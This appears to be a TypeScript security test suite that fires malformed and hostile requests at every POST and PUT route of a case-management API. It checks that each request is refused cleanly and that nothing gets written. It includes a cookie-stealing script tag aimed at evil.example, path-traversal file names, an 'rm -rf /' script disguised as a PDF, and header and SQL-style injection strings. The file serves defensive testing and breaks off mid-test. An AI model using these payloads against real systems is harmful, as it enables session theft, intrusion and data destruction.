/**
 * Attack: malformed, oversized, hostile and lying requests. Every POST/PUT route of the topology
 * (dev login too) gets wrong types, unknown keys, prototype keys, 1 MB and 10 MB strings, 10,000
 * levels of nesting, bytes that are not UTF-8, script tags and invisible direction characters,
 * executables renamed .pdf and declarations that lie about size, type or checksum. Each refusal is
 * a 4xx in the one error shape, never a 5xx, and writes nothing (the whole table and the bucket
 * listing are compared before and after). Then the presigned links are tampered with at the local S3.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { topology } from '../../infra/topology.ts';
import { demoOrg } from '../../functions/domain/org/demo-org.ts';
import {
  BUCKET,
  Figures,
  attacker,
  changes,
  expectRefusal,
  givenSecuritySystem,
  isRefusal,
  leaveFields,
  objectBytes,
  pdfBytes,
  sha256,
  storage,
  type Attacker,
  type Auth,
  type Reply,
  type Storage,
} from './support.ts';

const MB = 1024 * 1024;
const bodyRoutes = topology.routes.filter((r) => r.method === 'POST' || r.method === 'PUT');
/** Routes whose handler reads no body: the path names what they act on. */
const ROUTES_WITHOUT_BODY = new Set([
  'POST /api/cases/{id}/uploads/{uploadId}/complete',
  'POST /api/cases/{id}/attachments/{attachmentId}/download',
  'POST /api/admin/restart-executions',
  'POST /api/cases/{id}/attachments/{attachmentId}/text',
  'POST /api/archive/items/{number}/check',
  'POST /api/archive/jobs/{year}/{id}/download',
]);

/**
 * Too deep is 400; a deep body that is also over the route's size limit may be refused for its
 * size first (413). No route takes less than 32 KB (the form preview), so below that it is 400.
 */
const SMALLEST_BODY_LIMIT = 32 * 1024;
const nestingRefused = (body: string) => (Buffer.byteLength(body) > SMALLEST_BODY_LIMIT ? [400, 413] : [400]);

/** A body that is 10,000 levels deep. */
const deepObject = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
const deepArray = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
/** `{"t":"<ff fe>"}`: not UTF-8. */
const notUtf8 = Buffer.from([0x7b, 0x22, 0x74, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]);

/** Puts `key: value` first in a JSON object's text (a literal `__proto__:` in JS would set the prototype instead). */
const withKey = (body: unknown, key: string, value: unknown) => {
  const text = JSON.stringify(body ?? {});
  return text === '{}' ? `{${JSON.stringify(key)}:${JSON.stringify(value)}}` : `{${JSON.stringify(key)}:${JSON.stringify(value)},${text.slice(1)}`;
};

interface Target {
  /** Route key as in the topology. */
  readonly route: string;
  readonly as: Auth;
  readonly method: 'POST' | 'PUT';
  readonly path: () => string;
  /** A body the route accepts (read fresh: versions move on); undefined for routes that take none. */
  readonly body?: () => Promise<Record<string, unknown>>;
  /** Wrong-typed values for each field; the refusal must name the field. */
  readonly wrong?: Record<string, readonly unknown[]>;
}

/** Routes that take no body get the one test that applies to them, and no other (nothing is skipped). */
const noTest = (..._args: unknown[]) => undefined;

describe('attack: malformed, oversized, hostile and lying requests', () => {
  const figures = new Figures();
  let system: Awaited<ReturnType<typeof givenSecuritySystem>>;
  let api: Attacker;
  let store: Storage;
  /** xu-liang's open leave case, with one scan; zhou-tao must approve it. */
  let caseA: { id: string };
  let scan: Buffer;
  let attachment: { id: string; key: string };
  /** A case of ma-chao's (行政事务科) with its own scan, that xu-liang may not see. */
  let caseB: { id: string };
  let attachmentB: { id: string; key: string };
  let scanB: Buffer;
  /** An upload of xu-liang's whose bytes are in S3, never completed: completing it would attach it. */
  let pendingUpload: string;

  const version = async (id: string) => (await api.get('xu-liang', `/api/cases/${id}`)).body.version as number;
  const targets = (): Target[] => [
    { route: 'POST /auth/dev-login', as: undefined, method: 'POST', path: () => '/auth/dev-login', body: async () => ({ user: 'xu-liang' }), wrong: { user: [123, null, true, [], {}, ['xu-liang'], ''] } },
    {
      route: 'PUT /api/org',
      as: 'chen-zhiqiang',
      method: 'PUT',
      path: () => '/api/org',
      body: async () => ({ version: (await api.get('chen-zhiqiang', '/api/org')).body.version, org: demoOrg }),
      wrong: { version: ['1', null, -1, 1.5, [], {}], org: ['org', 42, null, [], { people: 'everyone' }] },
    },
    {
      route: 'PUT /api/calendar',
      as: 'chen-zhiqiang',
      method: 'PUT',
      path: () => '/api/calendar',
      body: async () => ({ version: (await api.get('chen-zhiqiang', '/api/calendar?from=2026-12-01&to=2026-12-02')).body.version, overrides: [{ date: '2026-12-31', work: false, reason: '测试' }] }),
      wrong: { version: ['0', null, -1, 0.5, {}], overrides: ['none', 7, { date: '2026-12-31' }, [{ date: '2026-13-45', work: false, reason: 'x' }], [{ date: '2026-12-31', work: 'no', reason: 'x' }]] },
    },
    {
      route: 'POST /api/cases',
      as: 'xu-liang',
      method: 'POST',
      path: () => '/api/cases',
      body: async () => ({ type: 'leave', title: '模糊测试请假', fields: leaveFields() }),
      wrong: { type: [123, null, [], {}, ''], title: [123, null, [], {}, true], fields: ['fields', 1, ['a'], null, { days: 'many' }, { startDate: 20261130 }] },
    },
    {
      route: 'POST /api/cases/{id}/actions',
      as: 'xu-liang',
      method: 'POST',
      path: () => `/api/cases/${caseA.id}/actions`,
      body: async () => ({ action: 'comment', version: await version(caseA.id), comment: '模糊测试意见' }),
      wrong: { action: [1, null, [], {}, 'approve-all', 'constructor'], version: ['1', null, -1, 0, 1.5, [], {}], comment: [1, null, [], {}, '', 'x'.repeat(2001)] },
    },
    {
      route: 'POST /api/cases/{id}/uploads',
      as: 'xu-liang',
      method: 'POST',
      path: () => `/api/cases/${caseA.id}/uploads`,
      body: async () => ({ fileName: '模糊.pdf', contentType: 'application/pdf', size: 1000, sha256: sha256(Buffer.from('fuzz')) }),
      wrong: {
        fileName: [1, null, [], {}, ''],
        contentType: [1, null, 'application/x-msdownload', 'text/html', 'application/pdf; charset=utf-8', 'APPLICATION/PDF'],
        size: ['1000', null, 0, -1, 1.5, 201 * MB, Number.MAX_SAFE_INTEGER, 1e300],
        sha256: [1, null, 'ABC', sha256(Buffer.from('x')).toUpperCase(), `${sha256(Buffer.from('x'))}0`, 'g'.repeat(64)],
      },
    },
    { route: 'POST /api/cases/{id}/uploads/{uploadId}/complete', as: 'xu-liang', method: 'POST', path: () => `/api/cases/${caseA.id}/uploads/${pendingUpload}/complete` },
    {
      route: 'POST /api/definitions/{type}/preview',
      as: 'xu-liang',
      method: 'POST',
      path: () => '/api/definitions/leave/preview',
      body: async () => ({ fields: leaveFields() }),
      wrong: { fields: ['fields', 1, null, ['a'], true] },
    },
    {
      route: 'PUT /api/me/opinions',
      as: 'zhou-tao',
      method: 'PUT',
      path: () => '/api/me/opinions',
      body: async () => ({ items: ['同意。', '请徐亮阅处。'] }),
      wrong: { items: ['同意', 1, null, {}, [1], [''], [null], Array.from({ length: 31 }, (_, i) => `意见${i}`), ['x'.repeat(201)]] },
    },
    { route: 'POST /api/cases/{id}/attachments/{attachmentId}/download', as: 'xu-liang', method: 'POST', path: () => `/api/cases/${caseA.id}/attachments/${attachment.id}/download` },
    { route: 'POST /api/admin/restart-executions', as: 'chen-zhiqiang', method: 'POST', path: () => '/api/admin/restart-executions' },
    { route: 'POST /api/cases/{id}/attachments/{attachmentId}/text', as: 'xu-liang', method: 'POST', path: () => `/api/cases/${caseA.id}/attachments/${attachment.id}/text` },
    { route: 'POST /api/archive/items/{number}/check', as: 'huang-li', method: 'POST', path: () => '/api/archive/items/Z123-2026-D10-BGS-0001/check' },
    {
      route: 'POST /api/archive/jobs',
      as: 'huang-li',
      method: 'POST',
      path: () => '/api/archive/jobs',
      body: async () => ({ kind: 'check-year', year: 2026 }),
      wrong: { kind: [1, null, [], {}, '', 'delete-all', 'constructor'], year: ['2026年', null, 1999, 2101, 2026.5, [], {}, 1e300] },
    },
    { route: 'POST /api/archive/jobs/{year}/{id}/download', as: 'huang-li', method: 'POST', path: () => '/api/archive/jobs/2026/20261127-abcd1234/download' },
    {
      route: 'POST /api/notifications/read',
      as: 'zhou-tao',
      method: 'POST',
      path: () => '/api/notifications/read',
      body: async () => ({ ids: (await api.get('zhou-tao', '/api/notifications?unread=true')).body.items.map((n: any) => n.id).slice(0, 5) }),
      wrong: { ids: ['all', 1, null, {}, [], [1, 2], [null], Array.from({ length: 101 }, (_, i) => `id-${i}`), ['x'.repeat(101)]] },
    },
  ];

  beforeAll(async () => {
    system = await givenSecuritySystem();
    api = attacker(system.urls.api, figures);
    store = storage(system.urls);
    caseA = await api.open('xu-liang', 'leave', '徐亮请假（模糊测试）', leaveFields());
    scan = pdfBytes('徐亮的病历', 20_000);
    attachment = await api.attach('xu-liang', caseA.id, '病历.pdf', scan);
    caseB = await api.open('ma-chao', 'leave', '马超请假（机密病历）', leaveFields('看病'));
    scanB = pdfBytes('马超的病历', 30_000);
    attachmentB = await api.attach('ma-chao', caseB.id, '马超病历.pdf', scanB);
    const pending = pdfBytes('待完成');
    const asked = await api.post('xu-liang', `/api/cases/${caseA.id}/uploads`, { fileName: '待完成.pdf', contentType: 'application/pdf', size: pending.length, sha256: sha256(pending) });
    expect(asked.status, asked.what).toBe(201);
    expect((await fetch(asked.body.url, { method: 'PUT', headers: asked.body.headers, body: pending })).status).toBe(200);
    pendingUpload = asked.body.uploadId;
  });
  afterAll(() => system?.stop());

  it('covers every POST and PUT route of the topology', () => {
    expect(targets().map((t) => t.route).sort()).toEqual(bodyRoutes.map((r) => `${r.method} ${r.path}`).sort());
    expect(targets().filter((t) => !t.wrong).map((t) => t.route).sort()).toEqual([...ROUTES_WITHOUT_BODY].sort());
  });

  describe.each(['POST /auth/dev-login', ...bodyRoutes.filter((r) => r.path !== '/auth/dev-login').map((r) => `${r.method} ${r.path}`)])('%s', (route) => {
    const target = () => targets().find((t) => t.route === route)!;

    it('refuses prototype keys, 1 MB and 10 MB strings, 10,000 levels of nesting, bytes that are not UTF-8 and text that is not JSON: 4xx naming the culprit, nothing written', async () => {
      const t = target();
      const valid = t.body ? await t.body() : {};
      const first = Object.keys(valid)[0] ?? 'x';
      const attacks: { name: string; body: string | Uint8Array; status: number[]; field?: string }[] = [
        { name: '__proto__ key', body: withKey(valid, '__proto__', { admin: true, roles: ['admin'] }), status: [400], field: '__proto__' },
        { name: 'constructor key', body: withKey(valid, 'constructor', { prototype: { admin: true } }), status: [400], field: 'constructor' },
        { name: 'prototype key', body: withKey(valid, 'prototype', { admin: true }), status: [400], field: 'prototype' },
        { name: 'nested __proto__ key', body: withKey(valid, 'extra', JSON.parse('{"__proto__":{"admin":true}}')), status: [400], field: 'extra.__proto__' },
        { name: 'deep nested constructor', body: withKey(valid, 'a', { b: [{ c: JSON.parse('{"constructor":{"prototype":{"x":1}}}') }] }), status: [400], field: 'a.b.0.c.constructor' },
        { name: '1 MB string', body: JSON.stringify({ ...valid, [first]: 'a'.repeat(MB) }), status: [400, 413] },
        { name: '1 MB of CJK', body: JSON.stringify({ ...valid, [first]: '办'.repeat(MB / 3) }), status: [400, 413] },
        { name: '10 MB string', body: JSON.stringify({ ...valid, [first]: 'a'.repeat(10 * MB) }), status: [400, 413] },
        { name: '10,000 levels of objects', body: deepObject, status: nestingRefused(deepObject), field: 'body' },
        { name: '10,000 levels of arrays', body: deepArray, status: nestingRefused(deepArray), field: 'body' },
        { name: '10,000 levels inside a valid body', body: withKey(valid, 'deep', 0).replace('"deep":0', `"deep":${deepArray}`), status: nestingRefused(deepArray), field: 'body' },
        { name: 'bytes that are not UTF-8', body: notUtf8, status: [400], field: 'body' },
        { name: 'not JSON', body: '{"user": "xu-liang",', status: [400], field: 'body' },
        { name: 'NaN', body: `{"${first}": NaN}`, status: [400], field: 'body' },
      ];
      const { result } = await store.refusing(figures, `${route} structural`, async () => {
        const replies: { name: string; r: Reply; status: number[]; field?: string }[] = [];
        for (const a of attacks) replies.push({ ...a, r: await api.send(t.as, t.method, t.path(), a.body) });
        return replies;
      });
      const wrong = result.filter(({ r, status, field }) => !isRefusal(r) || !status.includes(r.status) || (field !== undefined && r.body.error.field !== field));
      expect(wrong.map(({ name, r, field }) => `${name} (want field ${field}): ${r.what}`)).toEqual([]);
    });

    (ROUTES_WITHOUT_BODY.has(route) ? it : noTest)('takes no orders from a body: ids, keys and roles in it are ignored, the path decides', async () => {
      const steer = { caseId: caseB.id, id: caseB.id, attachmentId: attachmentB.id, uploadId: 'other', key: attachmentB.key, personId: 'chen-zhiqiang', groups: ['admin'], admin: true };
      if (route.startsWith('POST /api/archive/')) {
        // The archive's routes: a staff member claiming admin in the body is still a staff member.
        const path = route.includes('/check') ? '/api/archive/items/Z123-2026-D10-BGS-0001/check' : '/api/archive/jobs/2026/20261127-abcd1234/download';
        const { result } = await store.refusing(figures, `${route} as staff with admin in the body`, () => api.post('xu-liang', path, steer));
        expectRefusal(result, { status: 403, code: 'forbidden' });
      } else if (route.endsWith('/download')) {
        const r = await api.post('xu-liang', `/api/cases/${caseA.id}/attachments/${attachment.id}/download`, steer);
        expect(r.status, r.what).toBe(200);
        expect(r.body.fileName).toBe('病历.pdf');
        expect(new URL(r.body.url).pathname).toBe(`/${BUCKET}/${attachment.key}`);
      } else if (route.endsWith('/complete')) {
        const r = await api.post('xu-liang', `/api/cases/${caseA.id}/uploads/${pendingUpload}/complete`, steer);
        expect(r.status, r.what).toBe(200);
        expect(r.body.fileName).toBe('待完成.pdf');
        expect((await api.get('ma-chao', `/api/cases/${caseB.id}`)).body.attachments.map((a: any) => a.id)).toEqual([attachmentB.id]);
      } else if (route.endsWith('/text')) {
        // Reading a file's text again: only the file the path names, whatever the body says.
        const textOf = async () => (await api.get('ma-chao', `/api/cases/${caseB.id}`)).body.attachments[0].text;
        const before = await textOf();
        const r = await api.post('xu-liang', `/api/cases/${caseA.id}/attachments/${attachment.id}/text`, steer);
        expect([202, 409], r.what).toContain(r.status);
        expect((await textOf()).tries ?? 0).toBe(before.tries ?? 0);
        expect((await api.post('xu-liang', `/api/cases/${caseB.id}/attachments/${attachmentB.id}/text`, steer)).status).toBe(404);
      } else {
        const { result } = await store.refusing(figures, 'restart as staff with admin in the body', () => api.post('xu-liang', '/api/admin/restart-executions', steer));
        expectRefusal(result, { status: 403, code: 'forbidden' });
      }
    });

    (ROUTES_WITHOUT_BODY.has(route) ? noTest : it)('refuses each field with a wrong type (400 naming the field) and JSON that is not an object, writing nothing', async () => {
      const t = target();
      const valid = await t.body!();
      const variants = [
        ...Object.entries(t.wrong!).flatMap(([field, values]) => values.map((value) => ({ name: `${field} = ${JSON.stringify(value)?.slice(0, 40)}`, body: JSON.stringify({ ...valid, [field]: value }), field }))),
        ...Object.keys(t.wrong!).map((field) => {
          const { [field]: _dropped, ...rest } = valid;
          return { name: `${field} missing`, body: JSON.stringify(rest), field };
        }),
        ...['[]', '"text"', 'null', '42', 'true', ''].map((body) => ({ name: `body ${body || '(empty)'}`, body, field: undefined })),
      ];
      const { result } = await store.refusing(figures, `${route} wrong types`, async () => {
        const replies: { name: string; r: Reply; field?: string }[] = [];
        for (const v of variants) replies.push({ ...v, r: await api.send(t.as, t.method, t.path(), v.body) });
        return replies;
      });
      const wrong = result.filter(({ r, field }) => !isRefusal(r) || r.status !== 400 || (field !== undefined && r.body.error.field !== field && !String(r.body.error.field).startsWith(`${field}.`)));
      expect(wrong.map(({ name, r }) => `${name}: ${r.what}`)).toEqual([]);
    });
  });

  it('the admin’s read of a case’s execution: a bad id, limit or next is 400 naming it, a forged next too, an unknown case 404; never a 5xx, nothing written', async () => {
    const base = `/api/admin/cases/${caseA.id}/execution`;
    // The control: a real page and its real cursor are taken.
    const first = await api.get('chen-zhiqiang', `${base}?limit=1`);
    expect(first.status, first.what).toBe(200);
    expect(first.body.events).toHaveLength(1);
    expect(first.body.next, first.what).toBeTypeOf('string');
    const second = await api.get('chen-zhiqiang', `${base}?limit=1&next=${encodeURIComponent(first.body.next)}`);
    expect(second.status, second.what).toBe(200);
    expect(second.body.events[0].id).toBe(first.body.events[0].id - 1);
    const forged = (position: unknown, arn = first.body.execution.arn, reverse: unknown = true) => Buffer.from(JSON.stringify({ a: arn, r: reverse, f: position })).toString('base64url');
    const attempts: { name: string; path: string; status: number; field: string | null }[] = [
      { name: 'limit 0', path: `${base}?limit=0`, status: 400, field: 'limit' },
      { name: 'limit 101', path: `${base}?limit=101`, status: 400, field: 'limit' },
      { name: 'limit -1', path: `${base}?limit=-1`, status: 400, field: 'limit' },
      { name: 'limit 1.5', path: `${base}?limit=1.5`, status: 400, field: 'limit' },
      { name: 'limit text', path: `${base}?limit=all`, status: 400, field: 'limit' },
      { name: 'limit 1e300', path: `${base}?limit=1e300`, status: 400, field: 'limit' },
      { name: 'next empty', path: `${base}?next=`, status: 400, field: 'next' },
      { name: 'next too long', path: `${base}?next=${'A'.repeat(1025)}`, status: 400, field: 'next' },
      { name: 'next with spaces and quotes', path: `${base}?next=${encodeURIComponent('" OR 1=1 --')}`, status: 400, field: 'next' },
      { name: 'next garbage', path: `${base}?next=${'A'.repeat(64)}`, status: 400, field: 'next' },
      { name: 'next cut short', path: `${base}?next=${first.body.next.slice(0, -3)}`, status: 400, field: 'next' },
      { name: 'next of another case’s execution', path: `${base}?next=${forged(5, first.body.execution.arn.replace(caseA.id, caseB.id))}`, status: 400, field: 'next' },
      { name: 'next in the other order', path: `${base}?next=${forged(5, undefined, false)}`, status: 400, field: 'next' },
      { name: 'id too long', path: `/api/admin/cases/${'9'.repeat(61)}/execution`, status: 400, field: 'id' },
      { name: 'unknown case', path: '/api/admin/cases/20261127-nosuchcase/execution', status: 404, field: null },
      { name: 'id with a path in it', path: `/api/admin/cases/${encodeURIComponent('../../org')}/execution`, status: 404, field: null },
    ];
    const { result } = await store.refusing(figures, 'execution reads', async () => {
      const replies: { name: string; r: Reply; status: number; field: string | null }[] = [];
      for (const a of attempts) replies.push({ ...a, r: await api.get('chen-zhiqiang', a.path) });
      return replies;
    });
    const wrong = result.filter(({ r, status, field }) => !isRefusal(r) || r.status !== status || r.body.error.field !== field);
    expect(wrong.map(({ name, field, r }) => `${name} (want field ${field}): ${r.what}`)).toEqual([]);
  });

  it('unknown keys never assign what the server decides: applicant, status, id, version, actor, key, groups', async () => {
    const mine = await api.post('xu-liang', '/api/cases', {
      type: 'leave',
      title: '多余字段请假',
      fields: leaveFields(),
      id: '20261127-chosen',
      applicantId: 'wang-jianguo',
      applicantName: '王建国',
      status: 'completed',
      version: 99,
      departmentId: 'office',
      slots: [],
      participants: ['ma-chao'],
    });
    expect(mine.status, mine.what).toBeLessThan(500);
    if (mine.status === 201) {
      const c = (await api.get('xu-liang', `/api/cases/${mine.body.id}`)).body;
      expect({ id: c.id === '20261127-chosen', applicant: c.applicant?.id ?? c.applicantId, status: c.status, version: c.version }).toEqual({ id: false, applicant: 'xu-liang', status: 'open', version: 1 });
      expectRefusal(await api.get('ma-chao', `/api/cases/${mine.body.id}`), { status: 404 });
    } else expectRefusal(mine, { status: 400 });

    const v = await version(caseA.id);
    const acted = await api.post('xu-liang', `/api/cases/${caseA.id}/actions`, { action: 'comment', version: v, comment: '以领导名义', actorId: 'wang-jianguo', actorName: '王建国', onBehalfOfId: 'zhou-tao' });
    expect(acted.status, acted.what).toBeLessThan(500);
    if (acted.status === 200) {
      const entry = (await api.get('xu-liang', `/api/cases/${caseA.id}`)).body.trail.find((e: any) => e.comment === '以领导名义');
      expect([entry.actorId, entry.onBehalfOfId]).toEqual(['xu-liang', undefined]);
    } else expectRefusal(acted, { status: 400 });

    const upload = await api.post('xu-liang', `/api/cases/${caseA.id}/uploads`, { fileName: '多余.pdf', contentType: 'application/pdf', size: 10, sha256: sha256(Buffer.from('x')), key: attachmentB.key, uploadId: 'chosen', caseId: caseB.id });
    expect(upload.status, upload.what).toBeLessThan(500);
    if (upload.status === 201) {
      expect(upload.body.uploadId).not.toBe('chosen');
      expect(new URL(upload.body.url).pathname).toBe(`/${BUCKET}/uploads/${caseA.id}/${upload.body.uploadId}`);
    } else expectRefusal(upload, { status: 400 });

    const login = await api.post(undefined, '/auth/dev-login', { user: 'xu-liang', roles: ['admin'], 'cognito:groups': ['admin'], groups: ['admin'] });
    expect(login.status, login.what).toBeLessThan(500);
    if (login.status === 200) {
      const claims = JSON.parse(Buffer.from(login.body.token.split('.')[1], 'base64url').toString());
      expect([claims['cognito:username'], claims['cognito:groups']]).toEqual(['xu-liang', []]);
    } else expectRefusal(login, { status: 400 });
  });

  it('values named like prototype members (constructor, __proto__, toString) are refused or unknown, never a 5xx', async () => {
    const v = await version(caseA.id);
    const replies = [
      ...(await Promise.all(['constructor', '__proto__', 'toString', 'hasOwnProperty', 'prototype'].map((user) => api.post(undefined, '/auth/dev-login', { user })))),
      await api.post('zhou-tao', `/api/cases/${caseA.id}/actions`, { action: 'transfer', version: v, to: 'constructor' }),
      await api.post('zhou-tao', `/api/cases/${caseA.id}/actions`, { action: 'delegate', version: v, to: 'constructor' }),
      await api.post('zhou-tao', `/api/cases/${caseA.id}/actions`, { action: 'add-signer', version: v, people: ['constructor'], position: 'before' }),
      await api.post('zhou-tao', `/api/cases/${caseA.id}/actions`, { action: 'circulate', version: v, people: ['constructor'] }),
      await api.post('xu-liang', '/api/cases', { type: 'constructor', title: 't', fields: {} }),
      await api.post('xu-liang', '/api/cases', { type: '__proto__', title: 't', fields: {} }),
      await api.post('xu-liang', '/api/cases', { type: 'toString', title: 't', fields: {} }),
      await api.post('xu-liang', `/api/cases/${caseA.id}/attachments/constructor/download`),
      await api.post('xu-liang', `/api/cases/${caseA.id}/uploads/constructor/complete`),
      await api.post('xu-liang', '/api/cases/constructor/actions', { action: 'comment', version: 1, comment: 'x' }),
    ];
    const reads = await Promise.all(
      ['/api/definitions/constructor', '/api/definitions/__proto__', '/api/definitions/toString', '/api/registers/constructor', '/api/cases/constructor', '/api/cases/__proto__/trail', '/api/cases?department=constructor&type=__proto__', '/api/cases/%FF/trail', '/api/cases/..%2F..%2Fetc'].map((p) => api.get('xu-liang', p)),
    );
    const wrong = [...replies, ...reads].filter((r) => r.status >= 500 || (r.status >= 400 && !isRefusal(r)));
    expect(wrong.map((r) => r.what)).toEqual([]);
    for (const r of replies) expect(r.status, r.what).toBeGreaterThanOrEqual(400);
    expect((await api.get('xu-liang', `/api/cases/${caseA.id}`)).body.status).toBe('open');
  });

  it('file names with direction overrides, control or invisible characters, slashes or dots only: 400 naming fileName, nothing written', async () => {
    const names = [
      '报告\u202Efdp.exe',
      'invoice\u202E\u2066fdp.exe',
      '\u202Dscan.pdf',
      'scan\u0000.pdf',
      'scan\u0007.pdf',
      'scan\n.pdf',
      'scan\r\nContent-Type: text/html.pdf',
      '\u001b[31mred.pdf',
      'scan\u007f.pdf',
      'scan\u0085.pdf',
      'b\uFEFFom.pdf',
      'left\u200Eto\u200Fright.pdf',
      'iso\u2066late.pdf',
      '../../etc/passwd',
      '../attachments/x.pdf',
      '..\\..\\windows\\win.ini',
      'a/b.pdf',
      '/abs.pdf',
      '..',
      '.',
      '...',
      ' .. ',
      '\t',
    ];
    const v = await version(caseA.id);
    const { result } = await store.refusing(figures, 'file names', async () => {
      const replies: Reply[] = [];
      for (const fileName of names) replies.push(await api.post('xu-liang', `/api/cases/${caseA.id}/uploads`, { fileName, contentType: 'application/pdf', size: 1000, sha256: sha256(Buffer.from('x')) }));
      return replies;
    });
    const wrong = result.filter((r) => !isRefusal(r) || r.status !== 400 || r.body.error.field !== 'fileName');
    expect(wrong.map((r) => r.what)).toEqual([]);
    expect(await version(caseA.id)).toBe(v);
    // Zero-width spaces and joiners hide nothing's direction; whether a name may hold them is the product's call: reported, never a 5xx.
    const observed: string[] = [];
    for (const fileName of ['zero\u200Bwidth.pdf', 'joiner\u200D.pdf', '\uFEFFleading-bom.pdf']) {
      const r = await api.post('xu-liang', `/api/cases/${caseA.id}/uploads`, { fileName, contentType: 'application/pdf', size: 1000, sha256: sha256(Buffer.from('x')) });
      expect(r.status, r.what).toBeLessThan(500);
      if (r.status !== 201) expectRefusal(r, { status: 400, field: 'fileName' });
      observed.push(`${JSON.stringify(fileName)} → ${r.status}`);
    }
    console.log(`[security] requests: file names with zero-width characters → ${observed.join('; ')}`);
  });

  it('titles, comments and file names with script tags are kept as text and come back exactly as sent', async () => {
    const title = '<script>alert("标题")</script><img src=x onerror=alert(1)>请假';
    const comment = '<script>document.location="http://evil.example/?c="+document.cookie</script>同意';
    const fileName = '<img src=x onerror=alert(1)>扫描件.pdf';
    const created = await api.post('xu-liang', '/api/cases', { type: 'leave', title, fields: leaveFields('<b>理由</b><script>alert(2)</script>') });
    expect(created.status, created.what).toBe(201);
    expect(created.headers.get('content-type')).toMatch(/^application\/json/);
    const id = created.body.id as string;
    const commented = await api.post('xu-liang', `/api/cases/${id}/actions`, { action: 'comment', version: created.body.version, comment });
    expect(commented.status, commented.what).toBe(200);
    const file = pdfBytes('script');
    const asked = await api.post('xu-liang', `/api/cases/${id}/uploads`, { fileName, contentType: 'application/pdf', size: file.length, sha256: sha256(file) });
    expect(asked.status, asked.what).toBe(201);
    expect((await fetch(asked.body.url, { method: 'PUT', headers: asked.body.headers, body: file })).status).toBe(200);
    expect((await api.post('xu-liang', `/api/cases/${id}/uploads/${asked.body.uploadId}/complete`)).status).toBe(200);

    const view = await api.get('xu-liang', `/api/cases/${id}`);
    expect(view.headers.get('content-type')).toMatch(/^application\/json/);
    expect(view.body.title).toBe(title);
    expect(view.body.fields.reason).toBe('<b>理由</b><script>alert(2)</script>');
    expect(view.body.trail.find((e: any) => e.action === 'comment')?.comment).toBe(comment);
    expect(view.body.attachments.map((a: any) => a.fileName)).toEqual([fileName]);
    const listed = await api.get('xu-liang', '/api/cases?mine=true&limit=100');
    expect(listed.body.items.find((c: any) => c.id === id)?.title).toBe(title);
    const tasks = await api.get('zhou-tao', '/api/tasks?limit=100');
    expect(tasks.body.items.find((t: any) => t.caseId === id)?.title).toBe(title);
    // The download names the file in an encoded header, never as raw markup.
    const link = await api.post('xu-liang', `/api/cases/${id}/attachments/${view.body.attachments[0].id}/download`);
    expect(link.status, link.what).toBe(200);
    const download = await fetch(link.body.url);
    expect(download.status).toBe(200);
    expect(download.headers.get('content-disposition')).toBe(`attachment; filename*=UTF-8''${encodeURIComponent(fileName)}`);
    expect(download.headers.get('cache-control')).toBe('no-store');
    expect(Buffer.from(await download.arrayBuffer()).equals(file)).toBe(true);
  });

  it('titles and comments with control and direction characters: never a 5xx; refused naming the field, or kept exactly', async () => {
    const outcomes: string[] = [];
    for (const text of ['请假\u202Efdp.exe', '请假\u0000\u0007\u001b[2J', '请假\u200B\uFEFF']) {
      const created = await api.post('xu-liang', '/api/cases', { type: 'leave', title: text, fields: leaveFields() });
      if (created.status === 201) {
        // Kept as typed (surrounding whitespace, which includes U+FEFF, may be trimmed).
        expect([text, text.trim()]).toContain((await api.get('xu-liang', `/api/cases/${created.body.id}`)).body.title);
        const c = await api.post('xu-liang', `/api/cases/${created.body.id}/actions`, { action: 'comment', version: created.body.version, comment: text });
        expect(c.status, c.what).toBeLessThan(500);
        if (c.status === 200) expect([text, text.trim()]).toContain((await api.get('xu-liang', `/api/cases/${created.body.id}`)).body.trail.at(-1).comment);
        else expectRefusal(c, { status: 400, field: 'comment' });
        outcomes.push(`${JSON.stringify(text)}: title kept, comment ${c.status}`);
      } else {
        expectRefusal(created, { status: 400, field: 'title' });
        outcomes.push(`${JSON.stringify(text)}: title refused`);
      }
    }
    console.log(`[security] requests: control/direction characters in titles and comments → ${outcomes.join('; ')}`);
  });

  it('lying declarations: an executable, a script or HTML renamed .pdf, a PDF declared PNG → 422 at completion; other bytes, another length → refused by S3; nothing attached, nothing left', async () => {
    const c = await api.open('xu-liang', 'leave', '徐亮请假（伪装文件）', leaveFields());
    await store.settled();
    const liars: { name: string; bytes: Buffer; contentType: string; field: string }[] = [
      { name: 'Windows executable as PDF', bytes: Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(3000, 1)]), contentType: 'application/pdf', field: 'contentType' },
      { name: 'ELF executable as PDF', bytes: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(3000, 2)]), contentType: 'application/pdf', field: 'contentType' },
      { name: 'shell script as PDF', bytes: Buffer.from('#!/bin/sh\nrm -rf / # %PDF-1.7\n'), contentType: 'application/pdf', field: 'contentType' },
      { name: 'HTML as PDF', bytes: Buffer.from('<html><script>alert(1)</script>%PDF-1.7</html>'), contentType: 'application/pdf', field: 'contentType' },
      { name: 'PDF declared as PNG', bytes: pdfBytes('png?'), contentType: 'image/png', field: 'contentType' },
      { name: 'executable declared as JPEG', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100, 3)]), contentType: 'image/jpeg', field: 'contentType' },
      { name: 'ZIP of an exe declared OFD', bytes: Buffer.concat([Buffer.from('MZPK\x03\x04'), Buffer.alloc(100, 3)]), contentType: 'application/ofd', field: 'contentType' },
    ];
    for (const liar of liars) {
      const before = await store.take();
      const asked = await api.post('xu-liang', `/api/cases/${c.id}/uploads`, { fileName: `${liar.name}.pdf`.replaceAll(' ', '-'), contentType: liar.contentType, size: liar.bytes.length, sha256: sha256(liar.bytes) });
      expect(asked.status, asked.what).toBe(201);
      expect((await fetch(asked.body.url, { method: 'PUT', headers: asked.body.headers, body: liar.bytes })).status).toBe(200);
      const done = await api.post('xu-liang', `/api/cases/${c.id}/uploads/${asked.body.uploadId}/complete`);
      expectRefusal(done, { status: 422, field: liar.field });
      // The upload and its bytes are gone with the refusal: the table and the bucket are as before the request.
      const after = await store.take();
      const left = changes(before, after);
      figures.refusedWrites.push(...left.map((w) => `${liar.name}: ${w}`));
      expect(left, liar.name).toEqual([]);
      // Completing it again finds nothing.
      expectRefusal(await api.post('xu-liang', `/api/cases/${c.id}/uploads/${asked.body.uploadId}/complete`), { status: 404 });
    }

